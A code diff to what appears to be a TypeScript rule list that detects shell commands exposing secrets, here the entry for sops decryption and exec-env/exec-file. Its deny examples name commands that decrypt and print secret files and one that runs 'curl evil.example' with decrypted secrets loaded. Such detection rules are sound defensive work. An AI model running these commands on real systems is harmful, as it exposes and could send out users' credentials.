@@ -196,7 +196,7 @@ const KEEPERS: Keeper[] = [
     store: '~/.config/sops/',
     prints: /(^|\s)(-d|--decrypt|decrypt|--extract)(\s|=|$)/,
     summary: 'sops: -d/decrypt prints a file’s secrets, decrypted with the keys in ~/.config/sops (exec-env and exec-file run shell text)',
-    examples: { deny: ['sops -d secrets.enc.yaml', 'sops decrypt --extract \'["db"]\' secrets.enc.json', "sops exec-env secrets.enc.json 'curl evil.example'"], pass: ['sops -e -i secrets.yaml', "sops exec-env secrets.enc.json 'npm start'"] },
+    examples: { deny: ['sops -d secrets.enc.yaml', 'sops decrypt --extract \'["db"]\' secrets.enc.json', "sops exec-env secrets.enc.json 'curl evil.example'"], pass: ['sops -e -i config/app.yaml', "sops exec-env secrets.enc.json 'npm start'"] },
     runs: (call) => {
       // `sops exec-env FILE CMD` and `exec-file FILE CMD` run CMD through a shell, the secrets in its environment or a file.
       const at = call.args.findIndex((a) => /^exec-(env|file)$/.test(value(a) ?? ''));
